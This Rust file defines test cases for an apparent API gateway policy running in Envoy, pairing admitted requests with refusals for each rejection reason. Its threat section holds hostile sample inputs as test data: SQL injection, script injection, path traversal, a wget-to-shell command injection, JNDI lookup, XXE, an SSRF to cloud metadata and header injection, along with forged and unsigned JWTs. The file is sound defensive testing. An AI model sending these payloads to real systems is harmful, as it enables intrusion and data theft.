//! Refusals, each beside the request that would be admitted: denial of service must not pay. Every reason has a case here
//! or a line in [`LEFT_OUT`].

use std::fs;
use std::path::PathBuf;
use std::time::{SystemTime, UNIX_EPOCH};

use portcullis_cost::policies::*;
use serde_json::{Value, json};

use crate::cases::{Case, When};
use crate::envoy::Shape;
use crate::load::{Ask, Token};
use crate::revoked;
use crate::tokens::{Algorithm, DISTINCT, Tokens, base64url};

/// Reasons that no load of these drivers can bring about in Envoy, and why.
#[cfg(test)]
const LEFT_OUT: &[(&str, &str)] = &[
    ("head_invalid", "only a host that breaks the ABI hands such a head over"),
    ("method_invalid", "Envoy refuses it before any filter"),
    (
        "header_repeated",
        "Envoy joins the fields that may come once, or refuses them",
    ),
    (
        "header_invalid",
        "Envoy refuses a length that is no number before any filter",
    ),
    ("trailers_unsupported", "wrk and h2load send no trailers"),
    ("client_unknown", "each connection has an address"),
    (
        "login_limited",
        "only while the attempts before are under way; whoever goes on is banned",
    ),
    ("store_unavailable", "shared data is there as long as Envoy is"),
    ("internal", "nothing is known that brings it about"),
];

/// What is admitted in front of a backend, with all guards.
const READ: &str = "all guards, proxied";
const WRITE: &str = "1 KiB, all guards, proxied";
/// As much to read for Envoy as what is refused for a body, or for a token that is too large.
const SMALL_WRITE: &str = "400 B, all guards, proxied";
const LARGE_READ: &str = "all guards, token of 16 KiB, proxied";
/// The same with threats, parameters, forms and a bound on a token's age beside.
const THOROUGH_READ: &str = "all guards and threats, proxied";
const SEARCH: &str = "all guards and threats, search, proxied";
const NOTE: &str = "all guards and threats, note, proxied";
const FORM: &str = "all guards and threats, form, proxied";
const MULTIPART: &str = "all guards and threats, multipart, proxied";
const TEXT: &str = "all guards and threats, 16 KiB of text, proxied";
const LOGIN: &str = "all guards, login, proxied";
const INTROSPECTED: &str = "all guards, introspection, proxied";
const FIRST_SIGHT: &str = "RS256, first sight, proxied";
const LISTED: &str = "1000 revoked entries, status list, miss, proxied";

pub fn setups(keys: &Value, ours: impl Fn(Value) -> Shape) -> Vec<(&'static str, Shape)> {
    let proxied = |policy| Shape {
        proxied: true,
        ..ours(policy)
    };
    let with = |section: &str, value: Value| {
        let mut policy = all(keys);
        policy[section] = value;
        proxied(policy)
    };
    let introspection = json!({ "introspection": { "cluster": "stand_in", "authority": "id", "path": "/introspect",
        "client_id": "gateway", "client_secret": "secret", "cache": "5s" } });
    // It answers 200, which is neither.
    let broken = json!({ "lookup": { "cluster": "stand_in", "authority": "revocations", "path": "/broken/{jti}",
        "revoked": { "status": [299] }, "valid": { "status": [404] } } });
    let mut without_keys = tokens(keys);
    without_keys["providers"][0]["jwks"] = json!({ "cluster": "stand_in", "authority": "id", "path": "/no-keys" });
    let mut wide = thorough(keys);
    wide["threats"] = json!({});
    vec![
        ("strict", proxied(strict(keys))),
        ("thorough", proxied(thorough(keys))),
        ("thorough-wide", proxied(wide)),
        ("logins", with("login", narrow_login())),
        ("logins-open", with("login", open_login())),
        ("introspection", with("revocation", introspection)),
        ("revocation-down", with("revocation", broken)),
        ("keys-down", with("tokens", without_keys)),
        ("tokens-new-proxied", proxied(json!({ "tokens": tokens(keys) }))),
        (
            "list-proxied",
            proxied(revoked::policy("list", revoked::COUNTS[0], false, &tokens(keys))),
        ),
    ]
}

/// Where the forged tokens are kept: good ones with another signature, each of its own.
fn forged_path(tokens: &Tokens) -> PathBuf {
    let path = tokens.set_path(Algorithm::Rs256);
    path.with_file_name("forged.tokens")
}

/// The same with one letter of the signature exchanged.
fn forge(token: &str) -> String {
    let at = token.rfind('.').map_or(0, |dot| dot + 10);
    let (Some(before), Some(after)) = (token.get(..at), token.get(at + 1..)) else {
        return token.to_owned();
    };
    let other = if token.get(at..=at) == Some("A") { "B" } else { "A" };
    format!("{before}{other}{after}")
}

/// Makes the forged tokens from the set of good ones, which is there, if they are not there yet.
pub fn make_forged(tokens: &Tokens) -> Result<(), String> {
    let path = forged_path(tokens);
    if path.exists() {
        return Ok(());
    }
    let good = fs::read_to_string(tokens.set_path(Algorithm::Rs256));
    let good = good.map_err(|error| format!("can't read the good tokens: {error}"))?;
    let text: String = good.lines().map(|token| forge(token) + "\n").collect();
    let partial = path.with_extension("partial");
    let written = fs::write(&partial, text).and_then(|()| fs::rename(&partial, &path));
    written.map_err(|error| format!("can't write {}: {error}", path.display()))
}

/// A token with this header and no signature that anybody made.
fn unsigned(header: &Value) -> Token {
    let part = |value: &Value| base64url(value.to_string().as_bytes());
    let claims = json!({ "iss": ISSUER, "aud": "api", "sub": "user-4711", "jti": "id-1", "exp": 4_102_444_800_u64 });
    Token::Fixed(format!("{}.{}.{}", part(header), part(&claims), base64url(&[1; 256])))
}

fn multipart(end: &str) -> String {
    let text = "The order came late on Monday. ".repeat(30);
    format!("--b\r\ncontent-disposition: form-data; name=\"note\"\r\n\r\n{text}\r\n--b{end}")
}

fn admitted(name: &'static str, setup: &'static str, ask: Ask) -> Case {
    Case {
        name,
        setup,
        ask,
        base: name,
        when: When::SomeRounds,
        first: Vec::new(),
    }
}

/// What admits is in the set-up of that name unless the refusal says another; the codes name the cases, which live as long
/// as the program.
fn refused(setup: &'static str, base: &'static str, status: u16, code: &'static str, ask: Ask) -> Case {
    Case {
        ask: ask.refused(status, code),
        base,
        ..admitted(format!("refused: {code}").leak(), setup, Ask::get("/"))
    }
}

pub fn cases(tokens: &Tokens) -> Vec<Case> {
    let now = SystemTime::now().duration_since(UNIX_EPOCH);
    let now = now.map_or(0, |since| since.as_secs());
    let mint = |claims: Value| Token::Fixed(tokens.mint(Algorithm::Rs256, "id-1", &claims));
    let good = || mint(Value::Null);
    let young = || mint(json!({ "iat": now }));
    let get = |path: &str| Ask::get(path).token(good());
    let read = || get("/orders/4711");
    let (small, order) = (order(400), order(1 << 10));
    let write = |body: &str| Ask::post("/orders", body.to_owned()).token(good());
    let kind = |mut ask: Ask, kind: &str| {
        ask.headers.retain(|(name, _)| *name != "content-type");
        ask.header("content-type", kind)
    };
    let mut cases = vec![
        admitted(WRITE, "all-proxied", write(&order)),
        admitted(SMALL_WRITE, "all-proxied", write(&small)),
        admitted(
            LARGE_READ,
            "all-proxied",
            Ask::get("/orders/4711").token(mint(json!({ "pad": "a".repeat(11 << 10) }))),
        ),
        admitted(THOROUGH_READ, "thorough", Ask::get("/orders/4711").token(young())),
        admitted(SEARCH, "thorough", search("dark green lamp, 60 W").token(young())),
    ];
    let all = |base, status, code, ask| refused("all-proxied", base, status, code, ask);

    // Clients, paths and heads.
    let banned = || read().from("198.51.100.99");
    let fail = || Ask::post("/login", "{}".to_owned()).from("198.51.100.99");
    let mut without_agent = read();
    without_agent.headers.retain(|(name, _)| *name != "user-agent");
    let head = read;
    cases.extend([
        all(READ, 403, "client_denied", read().from("203.0.113.9")),
        Case {
            first: (0..6).map(|_| fail()).collect(),
            ..all(READ, 429, "client_banned", banned())
        },
        refused("strict", READ, 429, "quota_exceeded", read()),
        all(READ, 400, "path_invalid", get("/orders/%zz")),
        all(READ, 400, "host_invalid", head().header("Host", "a$b")),
        all(READ, 400, "header_missing", without_agent),
        all(
            READ,
            400,
            "method_override",
            head().header("x-http-method-override", "DELETE"),
        ),
        all(READ, 404, "operation_unknown", get("/none")),
        all(
            READ,
            405,
            "method_not_allowed",
            Ask {
                method: "PUT",
                ..read()
            },
        ),
        refused(
            "thorough",
            SEARCH,
            400,
            "parameter_invalid",
            Ask::get("/search?q=dark+green+lamp&page=none").token(young()),
        ),
    ]);

    // Bodies.
    let note = |text: String| Ask::post("/notes", text).token(young());
    let form = |text: String| {
        let ask = Ask::post("/forms", text).token(young());
        kind(ask, "application/x-www-form-urlencoded")
    };
    let parts = |end: &str| {
        let ask = Ask::post("/forms", multipart(end)).token(young());
        kind(ask, "multipart/form-data; boundary=b")
    };
    let thorough = |base, status, code, ask| refused("thorough", base, status, code, ask);
    let fields = |pad: &str| format!("note={pad}{}&last=1", "The+order+came+late.+".repeat(45));
    cases.extend([
        admitted(NOTE, "thorough", note(prose(1 << 10))),
        admitted(FORM, "thorough", form(fields(""))),
        admitted(MULTIPART, "thorough", parts("--\r\n")),
        all(WRITE, 400, "body_missing", write("")),
        all(
            SMALL_WRITE,
            400,
            "body_unexpected",
            Ask {
                body: Some("{}".to_owned()),
                ..read()
            },
        ),
        thorough(NOTE, 413, "body_too_large", note(prose(3 << 10))),
        all(WRITE, 415, "content_type", kind(write(&order), "text/plain")),
        all(
            WRITE,
            415,
            "content_encoding",
            write(&order).header("content-encoding", "gzip"),
        ),
        all(WRITE, 400, "json_malformed", write(&order[..order.len() - 1])),
        all(
            WRITE,
            400,
            "json_duplicate",
            write(&order.replace("\"gift\":false", "\"gift\":false,\"gift\":false")),
        ),
        thorough(
            NOTE,
            400,
            "json_limit",
            note(format!("{}{}{}", "[".repeat(512), "1", "]".repeat(512))),
        ),
        all(
            WRITE,
            400,
            "body_invalid",
            write(&order.replace("\"qty\":1,", "\"qty\":0,")),
        ),
        thorough(FORM, 400, "form_malformed", form(fields("%zz"))),
        thorough(MULTIPART, 400, "multipart_malformed", parts("\r\n")),
        thorough(FORM, 400, "form_limit", form("a=1&".repeat(300))),
    ]);

    // Logins.
    let guess = |from: &str, name: &str| {
        let body = json!({ "username": name, "password": "wrong" });
        Ask::post("/login", body.to_string()).from(from)
    };
    let logins = |status, code, ask, first| Case {
        first,
        ..refused("logins", LOGIN, status, code, ask)
    };
    let (one, two) = ("198.51.100.31", "198.51.100.32");
    let login = |body: &str| Ask::post("/login", body.to_owned());
    cases.extend([
        admitted(
            LOGIN,
            "logins-open",
            Ask {
                status: 401,
                ..guess("198.51.100.30", "ann")
            },
        ),
        logins(
            429,
            "login_spraying",
            guess(one, "g"),
            ["d", "e", "f", "g"].map(|name| guess(one, name)).into(),
        ),
        logins(
            429,
            "account_limited",
            guess(two, "h"),
            (0..4).map(|_| guess(two, "h")).collect(),
        ),
        logins(400, "account_missing", login("{}"), Vec::new()),
        logins(400, "account_invalid", login("{\"username\":1}"), Vec::new()),
    ]);

    // Tokens.
    let bad = |status, code, token| all(READ, status, code, Ask::get("/orders/4711").token(token));
    let claims = |status, code, claims| bad(status, code, mint(claims));
    let text = |token: String| Token::Fixed(token);
    let whole = tokens.mint(Algorithm::Rs256, "id-2", &Value::Null);
    let header = |changes: Value| {
        let mut header = json!({ "alg": "RS256", "kid": "RS256", "typ": "JWT" });
        for (name, value) in changes.as_object().into_iter().flatten() {
            header[name] = value.clone();
        }
        unsigned(&header)
    };
    let signed_as = |kind: &str| {
        let claims =
            json!({ "iss": ISSUER, "aud": "api", "sub": "user-4711", "jti": "id-1", "exp": 4_102_444_800_u64 });
        text(tokens.sign(Algorithm::Rs256, kind, &claims))
    };
    let forged = Token::Each(Algorithm::Rs256, forged_path(tokens), DISTINCT);
    let each = |set, count| Ask::get("/orders/4711").token(Token::Each(Algorithm::Rs256, set, count));
    let second = text(format!("{whole}, Bearer {whole}"));
    let beyond =
        json!({ "status": { "status_list": { "idx": 900_000, "uri": "https://status.example/statuses/1000" } } });
    cases.extend([
        all(READ, 401, "token_missing", Ask::get("/orders/4711")),
        bad(400, "token_repeated", second),
        all(
            LARGE_READ,
            401,
            "token_too_large",
            Ask::get("/orders/4711").token(text("a".repeat(17 << 10))),
        ),
        bad(401, "token_malformed", text("a.b.c".to_owned())),
        bad(401, "token_type", signed_as("dpop+jwt")),
        bad(401, "token_critical", header(json!({ "crit": ["x"], "x": 1 }))),
        bad(401, "token_algorithm", header(json!({ "alg": "HS256" }))),
        claims(401, "token_issuer", json!({ "iss": "https://other.example" })),
        bad(401, "token_key_unknown", header(json!({ "kid": "nobody" }))),
        refused("keys-down", READ, 503, "token_keys_unavailable", read()),
        bad(401, "token_signature", text(forge(&whole))),
        admitted(
            FIRST_SIGHT,
            "tokens-new-proxied",
            each(tokens.set_path(Algorithm::Rs256), DISTINCT),
        ),
        // A forger makes a new one each time; each is verified, as a good one is at first sight.
        Case {
            name: "refused: token_signature, first sight",
            ..refused(
                "tokens-new-proxied",
                FIRST_SIGHT,
                401,
                "token_signature",
                Ask::get("/orders/4711").token(forged),
            )
        },
        claims(401, "token_audience", json!({ "aud": "other" })),
        claims(401, "token_expired", json!({ "exp": 1_000_000 })),
        claims(401, "token_not_yet_valid", json!({ "nbf": 4_000_000_000_u64 })),
        thorough(
            THOROUGH_READ,
            401,
            "token_too_old",
            Ask::get("/orders/4711").token(mint(json!({ "iat": 1_000_000 }))),
        ),
        claims(401, "token_claim", json!({ "sub": 1 })),
        all(READ, 403, "token_scope", get("/admin/1")),
        claims(401, "token_without_id", json!({ "jti": null })),
        admitted(
            LISTED,
            "list-proxied",
            each(
                revoked::list_tokens(tokens, revoked::COUNTS[0], false),
                revoked::ASKING as usize,
            ),
        ),
        refused(
            "list-proxied",
            LISTED,
            401,
            "token_status",
            Ask::get("/orders/4711").token(mint(beyond)),
        ),
        admitted(
            INTROSPECTED,
            "introspection",
            Ask::get("/orders/4711").token(text("opaque-1".to_owned())),
        ),
        refused(
            "introspection",
            INTROSPECTED,
            401,
            "token_inactive",
            Ask::get("/orders/4711").token(text(revoked_id())),
        ),
        claims(401, "token_revoked", json!({ "jti": revoked_id() })),
        refused("revocation-down", READ, 503, "revocation_unavailable", read()),
    ]);

    // Threats, in a value of the query.
    let text_of_16_kib = || Ask::post("/texts", prose(16 << 10)).token(young());
    let threat = |code, value: &str| thorough(SEARCH, 403, code, search(value).token(young()));
    cases.extend([
        threat("threat_sql", "x' or 1=1--"),
        threat("threat_script", "<script>alert(1)</script>"),
        threat("threat_path", "../../../../etc/passwd"),
        threat("threat_command", "x; wget -q example.org/x -O- | sh"),
        threat("threat_template", "{{config.__class__.__mro__}}"),
        threat("threat_expression", "${jndi:ldap://example.org/a}"),
        threat("threat_xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"urn:x\">]><a>&x;</a>"),
        threat("threat_request_forgery", "http://169.254.169.254/latest/meta-data/"),
        threat("threat_header", "x\r\nset-cookie: a=b"),
        thorough(
            SEARCH,
            403,
            "threat_nosql",
            Ask::get("/search?q%5B%24ne%5D=1").token(young()),
        ),
        admitted(TEXT, "thorough-wide", text_of_16_kib()),
        thorough(TEXT, 403, "threat_budget", text_of_16_kib()),
    ]);
    cases
}

/// A search for this text.
fn search(text: &str) -> Ask {
    let encode = |byte: u8| {
        if byte.is_ascii_alphanumeric() {
            char::from(byte).to_string()
        } else {
            format!("%{byte:02X}")
        }
    };
    let text: String = text.bytes().map(encode).collect();
    Ask::get(&format!("/search?page=1&q={text}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use portcullis_cost::Reason;
    use std::collections::BTreeSet;

    #[test]
    fn every_reason_has_a_case_or_says_why_not() {
        let directory = portcullis_e2e::process::RunDirectory::create().unwrap();
        let tokens = Tokens::open(directory.path()).unwrap();
        let cases = cases(&tokens);
        let measured: BTreeSet<&str> = cases.iter().filter_map(|case| case.ask.code).collect();
        let left_out: BTreeSet<&str> = LEFT_OUT.iter().map(|(code, _)| *code).collect();
        assert_eq!(measured.intersection(&left_out).count(), 0);
        let known: BTreeSet<&str> = measured.union(&left_out).copied().collect();
        let all: BTreeSet<&str> = Reason::ALL.iter().map(|reason| reason.code()).collect();
        assert_eq!(known, all);
        for case in &cases {
            let reason = Reason::ALL.iter().find(|reason| Some(reason.code()) == case.ask.code);
            assert_eq!(
                reason.map_or(case.ask.status, |reason| reason.status()),
                case.ask.status,
                "{}",
                case.name
            );
        }
    }

    #[test]
    fn a_forged_token_differs_in_its_signature_only() {
        assert_eq!(forge("h.p.abcdefghijklm"), "h.p.abcdefghiAklm");
        assert_eq!(forge("h.p.abcdefghiAklm"), "h.p.abcdefghiBklm");
        assert_eq!(forge("h.p.a"), "h.p.a");
    }
}
